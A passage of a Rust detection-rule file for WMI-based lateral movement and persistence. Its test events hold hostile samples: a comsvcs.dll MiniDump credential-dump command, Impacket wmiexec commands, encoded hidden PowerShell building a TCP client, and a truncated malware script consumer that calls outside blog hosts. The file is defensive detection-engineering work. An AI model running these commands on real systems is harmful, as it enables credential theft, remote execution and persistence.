            targets: &[],
            contrast: Some((ex!(SYSMON, "1", "Image" = "C:\\Windows\\System32\\cmd.exe", "OriginalFileName" = "Cmd.Exe", "CommandLine" = "\"cmd.exe\" /c cmd.exe /Q /c hostname", "User" = "SigmaCatchVm\\frack113", "ParentImage" = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe"), Contrast::Filtered)),
        },
        FromPublic {
            origin: Origin::Escu("A8"),
            built: Built::Definition,
            event: ex!(SYSMON, "1", "Image" = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe", "OriginalFileName" = "PowerShell.EXE", "CommandLine" = "powershell.exe -NoP -NonI -W Hidden -Command \"Get-Process | Out-File C:\\Users\\Public\\p.txt\"", "ParentImage" = "C:\\Windows\\System32\\wbem\\WmiPrvSE.exe", "ParentCommandLine" = "C:\\Windows\\system32\\wbem\\wmiprvse.exe -secured -Embedding", "User" = "CORP\\alice", "LogonId" = "0x5a3c1f"),
            targets: &[],
            contrast: Some((ex!(SYSMON, "1", "Image" = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe", "OriginalFileName" = "PowerShell.EXE", "CommandLine" = "\"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe\" -NoLogo -Noninteractive -ExecutionPolicy Bypass -File \"C:\\Windows\\CCM\\SystemTemp\\6b1f8c2e-3e8c-4b7a-9a1d-0d2f5e7c9a11.ps1\"", "ParentImage" = "C:\\Windows\\System32\\wbem\\WmiPrvSE.exe", "ParentCommandLine" = "C:\\Windows\\system32\\wbem\\wmiprvse.exe -secured -Embedding", "User" = "NT AUTHORITY\\SYSTEM", "LogonId" = "0x3e7"), Contrast::Filtered)),
        },
        FromPublic {
            origin: Origin::Escu("C6"),
            built: Built::Definition,
            event: ex!(SYSMON, "1", "Image" = "C:\\Windows\\System32\\cmd.exe", "OriginalFileName" = "Cmd.Exe", "CommandLine" = "cmd.exe /c ipconfig > C:\\Windows\\Temp\\out.txt", "ParentImage" = "C:\\Windows\\System32\\wbem\\WmiPrvSE.exe", "ParentCommandLine" = "C:\\Windows\\system32\\wbem\\wmiprvse.exe -secured -Embedding", "User" = "CORP\\alice", "LogonId" = "0x6d2b4e"),
            targets: &[],
            contrast: Some((ex!(SYSMON, "1", "Image" = "C:\\Windows\\Temp\\1D8E4F8A-7F0C-4C4F-9B9F-4F3B2E6D1A2C\\dismhost.exe", "OriginalFileName" = "DismHost.exe", "CommandLine" = "C:\\Windows\\TEMP\\1D8E4F8A-7F0C-4C4F-9B9F-4F3B2E6D1A2C\\dismhost.exe {5B1A2C3D-4E5F-4A6B-8C7D-9E0F1A2B3C4D}", "ParentImage" = "C:\\Windows\\System32\\wbem\\WmiPrvSE.exe", "ParentCommandLine" = "C:\\Windows\\system32\\wbem\\wmiprvse.exe -secured -Embedding", "User" = "NT AUTHORITY\\SYSTEM", "LogonId" = "0x3e7"), Contrast::Filtered)),
        },
    ],
};

const WMI_REMOTEEXEC_CHILD_LOLBAS: Rule = Rule {
    id: "wmi_remoteexec_child_lolbas",
    alert_type: "WMI_RemoteExec_Child",
    description: "WmiPrvSE.exe started a living-off-the-land binary outside the SYSTEM logon",
    mitre: "T1047",
    side: Side::Destination,
    technique: Some(Technique::Wmi),
    outcome: Outcome::Success,
    artefact: Artefact::Execution,
    impact: 90,
    confidence: 60,
    basis: Basis::Escu("C7"),
    message: "WmiPrvSE.exe on $risk_object$ spawned the LOLBAS binary $process_name$",
    when: Match::When(Cond {
        kinds: &[Kind::ProcessCreate],
        parent: &["wmiprvse.exe"],
        image: LOLBAS,
        image_not: &[WMI_CHILD_NOISE],
        fields_not: WMI_CHILD_SYSTEM,
        yields: Yield::ProcessThreats,
        ..Cond::ANY
    }),
    positives: &[
        pos!(ex!(SYSMON, "1", "ParentImage" = "C:\\Windows\\System32\\wbem\\WmiPrvSE.exe", "Image" = "C:\\Windows\\System32\\rundll32.exe", "User" = "CORP\\alice"), threats: [("rundll32.exe", "process_name"), ("wmiprvse.exe", "parent_process_name")]),
    ],
    negatives: &[ex!(
        SYSMON,
        "1",
        "ParentImage" = "C:\\Windows\\System32\\wbem\\WmiPrvSE.exe",
        "Image" = "C:\\Windows\\System32\\cmd.exe",
        "User" = "CORP\\alice"
    )],
    public: &[
        FromPublic {
            origin: Origin::Sigma("8a582fe2"),
            built: Built::Regression { path: "regression_data/rules/windows/process_creation/proc_creation_win_wmiprvse_susp_child_processes/8a582fe2-0882-4b89-a82a-da6b2dc32937.json", commit: "2492606fd49eb5823bee3611c9d65ef47470d108" },
            event: ex!(SYSMON, "1", "Image" = "C:\\Windows\\System32\\rundll32.exe", "CommandLine" = "rundll32 C:\\windows\\system32\\comsvcs.dll, MiniDump 4868 C:\\Windows\\System32\\notepad.bin full", "CurrentDirectory" = "C:\\Windows\\system32\\", "User" = "MSEDGEWIN10\\IEUser", "LogonId" = "0xe81e5", "IntegrityLevel" = "High", "ParentImage" = "C:\\Windows\\System32\\wbem\\WmiPrvSE.exe", "ParentCommandLine" = "C:\\Windows\\system32\\wbem\\wmiprvse.exe -secured -Embedding"),
            targets: &[],
            contrast: Some((ex!(SYSMON, "1", "Image" = "C:\\Windows\\System32\\msiexec.exe", "OriginalFileName" = "msiexec.exe", "CommandLine" = "\"C:\\Windows\\System32\\msiexec.exe\" /i C:\\Windows\\Temp\\agent.msi /qn", "User" = "CORP\\alice", "LogonId" = "0x5a1b2c", "ParentImage" = "C:\\Windows\\System32\\wbem\\WmiPrvSE.exe", "ParentCommandLine" = "C:\\Windows\\system32\\wbem\\wmiprvse.exe -secured -Embedding"), Contrast::Broader("Win32_Product Install over WMI is how an MSI is pushed to another host, for admins and attackers alike"))),
        },
        FromPublic {
            origin: Origin::Escu("C7"),
            built: Built::Definition,
            event: ex!(SYSMON, "1", "Image" = "C:\\Windows\\System32\\rundll32.exe", "OriginalFileName" = "RUNDLL32.EXE", "CommandLine" = "rundll32.exe C:\\Users\\Public\\update.dll,Start", "ParentImage" = "C:\\Windows\\System32\\wbem\\WmiPrvSE.exe", "ParentCommandLine" = "C:\\Windows\\system32\\wbem\\wmiprvse.exe -secured -Embedding", "User" = "CORP\\alice", "LogonId" = "0x6d2b4e"),
            targets: &[],
            contrast: Some((ex!(SYSMON, "1", "Image" = "C:\\Windows\\System32\\cmd.exe", "OriginalFileName" = "Cmd.Exe", "CommandLine" = "cmd.exe /c whoami", "ParentImage" = "C:\\Windows\\System32\\wbem\\WmiPrvSE.exe", "ParentCommandLine" = "C:\\Windows\\system32\\wbem\\wmiprvse.exe -secured -Embedding", "User" = "CORP\\alice", "LogonId" = "0x6d2b4e"), Contrast::Filtered)),
        },
    ],
};

const WMI_IMPACKET_WMIEXEC: Rule = Rule {
    id: "wmi_impacket_wmiexec",
    alert_type: "WMI_Impacket_WmiExec",
    description: "Impacket wmiexec footprint (cmd.exe /Q /c … 1> \\\\127.0.0.1\\ADMIN$\\__<time>)",
    mitre: "T1047",
    side: Side::Destination,
    technique: Some(Technique::Wmi),
    outcome: Outcome::Success,
    artefact: Artefact::Execution,
    impact: 90,
    confidence: 70,
    basis: Basis::Escu("C8"),
    message: "Impacket wmiexec command executed on $risk_object$",
    when: Match::AnyOf(&[
        Cond {
            kinds: &[Kind::ProcessCreate],
            text_all: &["admin$"],
            text_regex: Some(&IMPACKET_CMD),
            yields: Yield::ProcessThreats,
            ..Cond::ANY
        },
        Cond {
            kinds: &[Kind::FileCreate],
            fields: &[(F::TargetFilename, Test::Matches(&IMPACKET_FILE))],
            ..Cond::ANY
        },
    ]),
    positives: &[
        pos!(ex!(SYSMON, "1", "ParentImage" = "C:\\Windows\\System32\\wbem\\WmiPrvSE.exe", "Image" = "C:\\Windows\\System32\\cmd.exe", "CommandLine" = "cmd.exe /Q /c whoami 1> \\\\127.0.0.1\\ADMIN$\\__1556656370.11 2>&1"), threats: [("cmd.exe", "process_name"), ("wmiprvse.exe", "parent_process_name")]),
        pos!(ex!(
            SYSMON,
            "11",
            "TargetFilename" = "C:\\Windows\\__1556656370.11"
        )),
        pos!(ex!(SYSMON, "11", "TargetFilename" = "D:\\__1556656370.11")),
    ],
    negatives: &[
        ex!(SYSMON, "1", "Image" = "C:\\Windows\\System32\\cmd.exe", "CommandLine" = "cmd.exe /c dir \\\\fileserver\\share"),
        ex!(SYSMON, "11", "TargetFilename" = "C:\\Windows\\Temp\\__1556656370.11"),
    ],
    public: &[
        FromPublic {
            origin: Origin::Sigma("022eaba8"),
            built: Built::Definition,
            event: ex!(SYSMON, "1", "Image" = "C:\\Windows\\System32\\cmd.exe", "OriginalFileName" = "Cmd.Exe", "CommandLine" = "cmd.exe /Q /c powershell.exe -NoP -NoL -sta -NonI -W Hidden -Exec Bypass -Enc JABjAGwAaQBlAG4AdAAgAD0AIABOAGUAdwAtAE8AYgBqAGUAYwB0ACAAUwB5AHMAdABlAG0ALgBOAGUAdAAuAFMAbwBjAGsAZQB0AHMALgBUAEMAUABDAGwAaQBlAG4AdAA= 1> \\\\127.0.0.1\\ADMIN$\\__1678278543.2217 2>&1", "CurrentDirectory" = "C:\\", "User" = "CORP\\admin", "LogonId" = "0x8c1f2a", "ParentImage" = "C:\\Windows\\System32\\wbem\\WmiPrvSE.exe", "ParentCommandLine" = "C:\\Windows\\system32\\wbem\\wmiprvse.exe -secured -Embedding"),
            targets: &[],
            contrast: Some((ex!(SYSMON, "1", "Image" = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe", "OriginalFileName" = "PowerShell.EXE", "CommandLine" = "powershell -noP -sta -w 1 -enc JABjAGwAaQBlAG4AdAAgAD0AIABOAGUAdwAtAE8AYgBqAGUAYwB0ACAAUwB5AHMAdABlAG0ALgBOAGUAdAAuAFMAbwBjAGsAZQB0AHMALgBUAEMAUABDAGwAaQBlAG4AdAA=", "User" = "CORP\\admin", "LogonId" = "0x8c1f2a", "ParentImage" = "C:\\Windows\\System32\\cmd.exe", "ParentCommandLine" = "\"C:\\Windows\\system32\\cmd.exe\""), Contrast::Filtered)),
        },
        FromPublic {
            origin: Origin::Sigma("8d5aca11"),
            built: Built::Definition,
            event: ex!(SYSMON, "11", "ProcessId" = "4", "Image" = "System", "TargetFilename" = "C:\\Windows\\__1678278543.2217", "User" = "NT AUTHORITY\\SYSTEM"),
            targets: &[],
            contrast: Some((ex!(SYSMON, "11", "ProcessId" = "4", "Image" = "System", "TargetFilename" = "C:\\Windows\\__output", "User" = "NT AUTHORITY\\SYSTEM"), Contrast::Filtered)),
        },
        FromPublic {
            origin: Origin::Escu("C8"),
            built: Built::Definition,
            event: ex!(SYSMON, "1", "Image" = "C:\\Windows\\System32\\cmd.exe", "OriginalFileName" = "Cmd.Exe", "CommandLine" = "cmd.exe /Q /c whoami 1> \\\\127.0.0.1\\ADMIN$\\__1698765432.5812 2>&1", "ParentImage" = "C:\\Windows\\System32\\wbem\\WmiPrvSE.exe", "ParentCommandLine" = "C:\\Windows\\system32\\wbem\\wmiprvse.exe -secured -Embedding", "User" = "CORP\\alice", "LogonId" = "0x7a41c3"),
            targets: &[],
            contrast: Some((ex!(SYSMON, "1", "Image" = "C:\\Windows\\System32\\cmd.exe", "OriginalFileName" = "Cmd.Exe", "CommandLine" = "cmd.exe /c whoami", "ParentImage" = "C:\\Windows\\System32\\wbem\\WmiPrvSE.exe", "ParentCommandLine" = "C:\\Windows\\system32\\wbem\\wmiprvse.exe -secured -Embedding", "User" = "CORP\\alice", "LogonId" = "0x7a41c3"), Contrast::Filtered)),
        },
        FromPublic {
            origin: Origin::Escu("C9"),
            built: Built::Definition,
            event: ex!(SYSMON, "1", "Image" = "C:\\Windows\\System32\\cmd.exe", "OriginalFileName" = "Cmd.Exe", "CommandLine" = "cmd.exe /Q /c cd \\ 1> \\\\127.0.0.1\\ADMIN$\\__1637152722.6573288 2>&1", "ParentImage" = "C:\\Windows\\System32\\mmc.exe", "ParentCommandLine" = "C:\\Windows\\system32\\mmc.exe -Embedding", "User" = "CORP\\alice", "LogonId" = "0x7a41c3"),
            targets: &[],
            contrast: Some((ex!(SYSMON, "1", "Image" = "C:\\Windows\\System32\\cmd.exe", "OriginalFileName" = "Cmd.Exe", "CommandLine" = "cmd.exe /Q /c dir \\\\FS01\\backup$ 2>&1", "ParentImage" = "C:\\Windows\\explorer.exe", "ParentCommandLine" = "C:\\Windows\\Explorer.EXE", "User" = "CORP\\alice"), Contrast::Filtered)),
        },
    ],
};

const WMI_TOKEN_ACCESS: Rule = Rule {
    id: "wmi_token_access",
    alert_type: "WMI_TokenAccess",
    description: "WmiPrvSE.exe opened a process with impersonation-grade access",
    mitre: "T1047",
    side: Side::Destination,
    technique: Some(Technique::Wmi),
    outcome: Outcome::Success,
    artefact: Artefact::Execution,
    impact: 50,
    confidence: 50,
    basis: Basis::Escu("C13"),
    message: "WmiPrvSE.exe on $risk_object$ opened a process with impersonation rights",
    when: Match::When(Cond {
        kinds: &[Kind::ProcessAccess],
        fields: &[
            (F::SourceImage, Test::FileIs(&["wmiprvse.exe"])),
            (F::GrantedAccess, Test::Is(&["0x1478", "0x1fffff"])),
        ],
        yields: Yield::Detail {
            prefix: "granted access ",
            field: F::GrantedAccess,
            lower: true,
        },
        ..Cond::ANY
    }),
    positives: &[
        pos!(ex!(SYSMON, "10", "SourceImage" = "C:\\Windows\\System32\\wbem\\WmiPrvSE.exe", "TargetImage" = "C:\\x\\a.exe", "GrantedAccess" = "0x1478"), detail: "granted access 0x1478"),
    ],
    negatives: &[ex!(
        SYSMON,
        "10",
        "SourceImage" = "C:\\Windows\\System32\\wbem\\WmiPrvSE.exe",
        "TargetImage" = "C:\\x\\a.exe",
        "GrantedAccess" = "0x1000"
    )],
    public: &[
        FromPublic {
            origin: Origin::Escu("C13"),
            built: Built::Definition,
            event: ex!(SYSMON, "10", "SourceImage" = "C:\\Windows\\system32\\wbem\\wmiprvse.exe", "SourceProcessId" = "3120", "SourceProcessGUID" = "{8a1f3c2e-5b6d-6571-2a01-000000001b00}", "TargetImage" = "C:\\Windows\\SysWOW64\\wermgr.exe", "TargetProcessId" = "6644", "TargetProcessGUID" = "{8a1f3c2e-5b70-6571-4c01-000000001b00}", "GrantedAccess" = "0x1478", "CallTrace" = "C:\\Windows\\SYSTEM32\\ntdll.dll+9d4c4|C:\\Windows\\System32\\KERNELBASE.dll+2c13e|C:\\Windows\\system32\\wbem\\cimwin32.dll+4a3f1"),
            targets: &[],
            contrast: Some((ex!(SYSMON, "10", "SourceImage" = "C:\\Windows\\system32\\wbem\\wmiprvse.exe", "SourceProcessId" = "3120", "TargetImage" = "C:\\Windows\\SysWOW64\\wermgr.exe", "TargetProcessId" = "6644", "GrantedAccess" = "0x1000"), Contrast::Filtered)),
        },
    ],
};

const WMI_DLL_HIJACK: Rule = Rule {
    id: "wmi_dll_hijack",
    alert_type: "WMI_DLLHijack",
    description: "wbemcomn.dll written to the WMI folder (WmiPrvSE DLL-hijack lateral movement)",
    mitre: "T1047",
    side: Side::Destination,
    technique: Some(Technique::Wmi),
    outcome: Outcome::Success,
    artefact: Artefact::Execution,
    impact: 70,
    confidence: 70,
    basis: Basis::Sigma("f6c68d5f", Level::High),
    message: "wbemcomn.dll planted on $risk_object$",
    when: Match::AnyOf(&[
        Cond {
            kinds: &[Kind::ShareAccess],
            fields: &[(
                F::RelativeTargetName,
                Test::EndsWith(&["wbem\\wbemcomn.dll"]),
            )],
            yields: Yield::Detail {
                prefix: "",
                field: F::RelativeTargetName,
                lower: false,
            },
            ..Cond::ANY
        },
        Cond {
            kinds: &[Kind::FileCreate],
            fields: &[(F::TargetFilename, Test::EndsWith(&["wbem\\wbemcomn.dll"]))],
            yields: Yield::Detail {
                prefix: "",
                field: F::TargetFilename,
                lower: false,
            },
            ..Cond::ANY
        },
        // Sigma 7707a579: WmiPrvSE loading it from there.
        Cond {
            kinds: &[Kind::ImageLoad],
            image: &["wmiprvse.exe"],
            fields: &[(F::ImageLoaded, Test::EndsWith(&["\\wbem\\wbemcomn.dll"]))],
            yields: Yield::LoadThreats,
            ..Cond::ANY
        },
    ]),
    positives: &[
        pos!(ex!(SECURITY, "5145", "RelativeTargetName" = "Windows\\System32\\wbem\\wbemcomn.dll"), detail: "Windows\\System32\\wbem\\wbemcomn.dll"),
        pos!(ex!(SYSMON, "7", "Image" = "C:\\Windows\\System32\\wbem\\WmiPrvSE.exe", "ImageLoaded" = "C:\\Windows\\System32\\wbem\\wbemcomn.dll"), threats: [("wmiprvse.exe", "process_name")], detail: "loaded C:\\Windows\\System32\\wbem\\wbemcomn.dll"),
    ],
    negatives: &[
        ex!(
            SECURITY,
            "5145",
            "RelativeTargetName" = "Windows\\System32\\wbem\\wbemprox.dll"
        ),
        // Where Windows keeps it (every recording here loads this one).
        ex!(
            SYSMON,
            "7",
            "Image" = "C:\\Windows\\System32\\wbem\\WmiPrvSE.exe",
            "ImageLoaded" = "C:\\Windows\\System32\\wbemcomn.dll"
        ),
    ],
    public: &[
        FromPublic {
            origin: Origin::Sigma("f6c68d5f"),
            built: Built::Definition,
            event: ex!(SECURITY, "5145", "SubjectUserSid" = "S-1-5-21-1111111111-2222222222-3333333333-1104", "SubjectUserName" = "alice", "SubjectDomainName" = "CORP", "SubjectLogonId" = "0x5b1c2d", "ObjectType" = "File", "IpAddress" = "10.0.1.21", "IpPort" = "50422", "ShareName" = "\\\\*\\C$", "ShareLocalPath" = "\\??\\C:\\\\", "RelativeTargetName" = "Windows\\System32\\wbem\\wbemcomn.dll", "AccessMask" = "0x2", "AccessList" = "%%4417"),
            targets: &[],
            contrast: Some((ex!(SECURITY, "5145", "SubjectUserSid" = "S-1-5-21-1111111111-2222222222-3333333333-2105", "SubjectUserName" = "MGMT01$", "SubjectDomainName" = "CORP", "SubjectLogonId" = "0x6c2d3e", "ObjectType" = "File", "IpAddress" = "10.0.1.50", "IpPort" = "50431", "ShareName" = "\\\\*\\C$", "ShareLocalPath" = "\\??\\C:\\\\", "RelativeTargetName" = "Windows\\System32\\wbem\\wbemcomn.dll", "AccessMask" = "0x2", "AccessList" = "%%4417"), Contrast::Broader("a machine account writing wbemcomn.dll into the WMI folder plants it as well"))),
        },
        FromPublic {
            origin: Origin::Sigma("614a7e17"),
            built: Built::Definition,
            event: ex!(SYSMON, "11", "ProcessId" = "4", "Image" = "System", "TargetFilename" = "C:\\Windows\\System32\\wbem\\wbemcomn.dll", "User" = "NT AUTHORITY\\SYSTEM"),
            targets: &[],
            contrast: Some((ex!(SYSMON, "11", "ProcessId" = "5120", "Image" = "C:\\Windows\\WinSxS\\amd64_microsoft-windows-servicingstack_31bf3856ad364e35_10.0.17763.5020_none_1b5b9a0c8d7e4a2f\\TiWorker.exe", "TargetFilename" = "C:\\Windows\\System32\\wbem\\wbemcomn.dll", "User" = "NT AUTHORITY\\SYSTEM"), Contrast::Broader("any process writing wbemcomn.dll into the WMI folder plants it; Windows keeps it in System32"))),
        },
        FromPublic {
            origin: Origin::Sigma("7707a579"),
            built: Built::Definition,
            event: ex!(SYSMON, "7", "Image" = "C:\\Windows\\System32\\wbem\\WmiPrvSE.exe", "ImageLoaded" = "C:\\Windows\\System32\\wbem\\wbemcomn.dll"),
            targets: &[],
            contrast: Some((ex!(SYSMON, "7", "Image" = "C:\\Windows\\System32\\wbem\\WmiPrvSE.exe", "ImageLoaded" = "C:\\Windows\\System32\\wbemcomn.dll"), Contrast::Filtered)),
        },
    ],
};

const WMI_SUBSCRIPTION_PERMANENT_CONSUMER: Rule = Rule {
    id: "wmi_subscription_permanent_consumer",
    alert_type: "WMI_Subscription_Permanent",
    description: "Permanent WMI event consumer that runs a command or script",
    mitre: "T1546.003",
    side: Side::Local,
    technique: Some(Technique::Wmi),
    outcome: Outcome::Success,
    artefact: Artefact::Context,
    impact: 70,
    confidence: 90,
    basis: Basis::Escu("D3"),
    message: "Permanent WMI event subscription on $risk_object$",
    when: Match::Custom(Custom {
        classes: &[Class::SysmonWmi, Class::WmiActivity],
        needles: &[],
        needs_keyword: false,
        f: m_subscription_consumer,
    }),
    positives: &[
        pos!(ex!(SYSMON, "20", "Type" = "Command Line", "Destination" = "\"C:\\Windows\\System32\\cmd.exe\" /c calc"), detail: "consumer \"C:\\Windows\\System32\\cmd.exe\" /c calc"),
        pos!(ex!(WMI, "5861", "CONSUMER" = "CommandLineEventConsumer=\"LogRotate Consumer\"", "ESS" = "subscription"), detail: "consumer CommandLineEventConsumer=\"LogRotate Consumer\""),
    ],
    negatives: &[ex!(
        WMI,
        "5861",
        "CONSUMER" = "NTEventLogEventConsumer=\"SCM Event Log Consumer\""
    )],
    public: &[
        FromPublic {
            origin: Origin::Sigma("0b7889b4"),
            built: Built::Regression { path: "regression_data/rules/windows/builtin/wmi/win_wmi_persistence/0b7889b4-5577-4521-a60a-3376ee7f9f7b.json", commit: "79e4dce5fec0fbedf1067d79454280911bab2506" },
            event: ex!(WMI, "5861", "Namespace" = "//./root/subscription", "ESS" = "AtomicRedTeam-WMIPersistence-Example", "CONSUMER" = "CommandLineEventConsumer=\"AtomicRedTeam-WMIPersistence-Example\"", "PossibleCause" = "Binding EventFilter: \ninstance of __EventFilter\n{\n\tCreatorSID = {1, 5, 0, 0, 0, 0, 0, 5, 21, 0, 0, 0};\n\tEventNamespace = \"root\\\\CimV2\";\n\tName = \"AtomicRedTeam-WMIPersistence-Example\";\n\tQuery = \"SELECT * FROM __InstanceModificationEvent WITHIN 60 WHERE TargetInstance ISA 'Win32_PerfFormattedData_PerfOS_System' AND TargetInstance.SystemUpTime >= 240 AND TargetInstance.SystemUpTime < 325\";\n\tQueryLanguage = \"WQL\";\n};\nPerm. Consumer: \ninstance of CommandLineEventConsumer\n{\n\tCommandLineTemplate = \"C:\\\\Windows\\\\System32\\\\notepad.exe\";\n\tCreatorSID = {1, 5, 0, 0, 0, 0, 0, 5, 21, 0, 0, 0};\n\tName = \"AtomicRedTeam-WMIPersistence-Example\";\n};\n"),
            targets: &[],
            contrast: Some((ex!(WMI, "5859", "NamespaceName" = "//./root/CIMV2", "Query" = "select * from MSFT_SCMEventLogEvent", "User" = "S-1-5-32-544", "Processid" = "3076", "Provider" = "SCM Event Provider", "queryid" = "0", "PossibleCause" = "Permanent"), Contrast::Filtered)),
        },
        FromPublic {
            origin: Origin::Sigma("83844185"),
            built: Built::Definition,
            event: ex!(SYSMON, "20", "EventType" = "WmiConsumerEvent", "Operation" = "Created", "User" = "CORP\\alice", "Name" = "\"Updater\"", "Type" = "Script", "Destination" = "\"var b64 = 'TVqQAAMAAAAEAAAA//8AALgAAAAAAAAAQAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAgAAAAA4fug4AtAnNIbgBTM0hVGhpcyBwcm9ncmFtIGNhbm5vdCBiZSBydW4gaW4gRE9TIG1vZGUuDQ0KJAAAAAAAAAA='; var s = new ActiveXObject('ADODB.Stream'); s.Type = 1; s.Open();\""),
            targets: &[],
            contrast: Some((ex!(SYSMON, "20", "EventType" = "WmiConsumerEvent", "Operation" = "Created", "User" = "CORP\\alice", "Name" = "\"Updater\"", "Type" = "Script", "Destination" = "\"var fso = new ActiveXObject('Scripting.FileSystemObject'); fso.CreateTextFile('C:\\\\ProgramData\\\\heartbeat.txt', true).WriteLine(new Date());\""), Contrast::Broader("every command-line or script consumer runs code; the payload need not be encoded"))),
        },
        FromPublic {
            origin: Origin::Sigma("fe21810c"),
            built: Built::Regression { path: "regression_data/rules/windows/wmi_event/sysmon_wmi_susp_scripting/fe21810c-2a8c-478f-8dd3-5a287fb2a0e0.json", commit: "e3fde8d654d2940ed88aa7d1b5f1f5f1d7fdde86" },
            event: ex!(SYSMON, "20", "EventType" = "WmiConsumerEvent", "UtcTime" = "2019-04-03 18:11:54.178", "Operation" = "Modified", "User" = "PC04\\IEUser", "Name" = "\"ProbeScriptFint\"", "Type" = "Script", "Destination" = "\"var sXmlUrl=\\\"http://kumardeep.sosblogs.com/The-first-blog-b1/RSS-b1-rss2-posts.htm;http://blogs.rediff.com/anilchopra/feed/;http://www.blogster.com/kapoorsunil09/profile/rss\\\";var sOwner='XDD';var MAIN=function(){$=this;$.key='W';$.sFeedUrl=sXmlUrl;$.sOwner=sOwner;$.sXmlUrl='';$.oHttp=null;$.oShell=null;$.oStream=null;$.sHostName=null;$.sOSType=null;$.sMacAddress=null;$.sURLParam=null;$.version='2.0.0';$.runtime=5000;$.oWMI=null;$._x=ActiveXObject;};MAIN.prototype={InitObjects:function(){$.oWMI=GetObject('winmgmts:{impersonationLevel=impersonate}!\\\\\\\\.\\\\root\\\\cimv2');$.oShell=new $._x('WScript.Shell');$.oStream=new $._x('ADODB.Stream');$.GetOSInfo();$.GetMacAddress();$.GenerateUrlParam();}, /* ... truncated ... */ Fire:function(){$.InitObjects();try{$.MainLoop();}catch(e){}$.CleanObjects();}};new MAIN().Fire();\""),
            targets: &[],
            contrast: Some((ex!(SYSMON, "20", "EventType" = "WmiConsumerEvent", "Operation" = "Created", "User" = "PC04\\IEUser", "Name" = "\"Inventory\"", "Type" = "Command Line", "Destination" = "\"C:\\Windows\\System32\\cscript.exe\" //nologo C:\\ProgramData\\Vendor\\inventory.vbs"), Contrast::Broader("every command-line or script consumer runs code; the payload need not be a download cradle"))),
        },
        FromPublic {
            origin: Origin::Escu("D1"),
            built: Built::Definition,
            event: ex!(WMI, "5861", "Namespace" = "//./root/subscription", "ESS" = "Updater Filter", "CONSUMER" = "CommandLineEventConsumer=\"Updater Consumer\"", "PossibleCause" = "Binding EventFilter: \ninstance of __EventFilter\n{\n\tCreatorSID = {1, 5, 0, 0, 0, 0, 0, 5, 21, 0, 0, 0};\n\tEventNamespace = \"root\\\\cimv2\";\n\tName = \"Updater Filter\";\n\tQuery = \"SELECT * FROM __InstanceModificationEvent WITHIN 60 WHERE TargetInstance ISA 'Win32_PerfFormattedData_PerfOS_System'\";\n\tQueryLanguage = \"WQL\";\n};\nPerm. Consumer: \ninstance of CommandLineEventConsumer\n{\n\tCommandLineTemplate = \"C:\\\\Users\\\\Public\\\\upd.exe\";\n\tCreatorSID = {1, 5, 0, 0, 0, 0, 0, 5, 21, 0, 0, 0};\n\tName = \"Updater Consumer\";\n};\n", "Message" = "Namespace = //./root/subscription; Eventfilter = Updater Filter (refer to its activate eventid:5859); Consumer = CommandLineEventConsumer=\"Updater Consumer\"; PossibleCause = Binding EventFilter: \ninstance of __EventFilter\n{\n\tCreatorSID = {1, 5, 0, 0, 0, 0, 0, 5, 21, 0, 0, 0};\n\tEventNamespace = \"root\\\\cimv2\";\n\tName = \"Updater Filter\";\n\tQuery = \"SELECT * FROM __InstanceModificationEvent WITHIN 60 WHERE TargetInstance ISA 'Win32_PerfFormattedData_PerfOS_System'\";\n\tQueryLanguage = \"WQL\";\n};\nPerm. Consumer: \ninstance of CommandLineEventConsumer\n{\n\tCommandLineTemplate = \"C:\\\\Users\\\\Public\\\\upd.exe\";\n\tCreatorSID = {1, 5, 0, 0, 0, 0, 0, 5, 21, 0, 0, 0};\n\tName = \"Updater Consumer\";\n};\n"),
            targets: &[],
            contrast: Some((ex!(WMI, "5861", "Namespace" = "//./root/subscription", "ESS" = "SCM Event Log Filter", "CONSUMER" = "NTEventLogEventConsumer=\"SCM Event Log Consumer\"", "PossibleCause" = "Binding EventFilter: \ninstance of __EventFilter\n{\n\tCreatorSID = {1, 2, 0, 0, 0, 0, 0, 5, 32, 0, 0, 0, 32, 2, 0, 0};\n\tEventNamespace = \"root\\\\cimv2\";\n\tName = \"SCM Event Log Filter\";\n\tQuery = \"select * from MSFT_SCMEventLogEvent\";\n\tQueryLanguage = \"WQL\";\n};\nPerm. Consumer: \ninstance of NTEventLogEventConsumer\n{\n\tCategory = 0;\n\tCreatorSID = {1, 2, 0, 0, 0, 0, 0, 5, 32, 0, 0, 0, 32, 2, 0, 0};\n\tEventType = 1;\n\tEventID = 0;\n\tName = \"SCM Event Log Consumer\";\n\tNumberOfInsertionStrings = 0;\n\tSourceName = \"Service Control Manager\";\n\tUNCServerName = NULL;\n};\n", "Message" = "Namespace = //./root/subscription; Eventfilter = SCM Event Log Filter (refer to its activate eventid:5859); Consumer = NTEventLogEventConsumer=\"SCM Event Log Consumer\"; PossibleCause = Binding EventFilter: \ninstance of __EventFilter\n{\n\tCreatorSID = {1, 2, 0, 0, 0, 0, 0, 5, 32, 0, 0, 0, 32, 2, 0, 0};\n\tEventNamespace = \"root\\\\cimv2\";\n\tName = \"SCM Event Log Filter\";\n\tQuery = \"select * from MSFT_SCMEventLogEvent\";\n\tQueryLanguage = \"WQL\";\n};\nPerm. Consumer: \ninstance of NTEventLogEventConsumer\n{\n\tCategory = 0;\n\tCreatorSID = {1, 2, 0, 0, 0, 0, 0, 5, 32, 0, 0, 0, 32, 2, 0, 0};\n\tEventType = 1;\n\tEventID = 0;\n\tName = \"SCM Event Log Consumer\";\n\tNumberOfInsertionStrings = 0;\n\tSourceName = \"Service Control Manager\";\n\tUNCServerName = NULL;\n};\n"), Contrast::Filtered)),
        },
        FromPublic {
            origin: Origin::Escu("D3"),
            built: Built::Definition,
            event: ex!(SYSMON, "20", "EventID" = "20", "EventType" = "WmiConsumerEvent", "Operation" = "Created", "User" = "CORP\\alice", "Name" = "\"AtomicRedTeam-WMIPersistence-Example\"", "Type" = "Command Line", "Destination" = "\"C:\\Windows\\System32\\notepad.exe\""),
            targets: &[],
